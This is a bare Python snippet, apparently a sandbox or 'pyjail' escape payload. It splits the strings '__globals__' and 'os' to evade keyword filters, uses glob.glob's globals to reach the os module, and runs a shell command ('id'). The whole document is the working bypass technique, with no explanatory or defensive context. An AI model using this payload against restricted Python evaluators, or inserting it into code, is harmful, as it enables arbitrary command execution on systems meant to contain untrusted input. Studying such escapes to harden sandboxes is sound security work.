import glob

g = object.__getattribute__(glob.glob, "__glo" + "bals__")
g["o" + "s"].system("id")
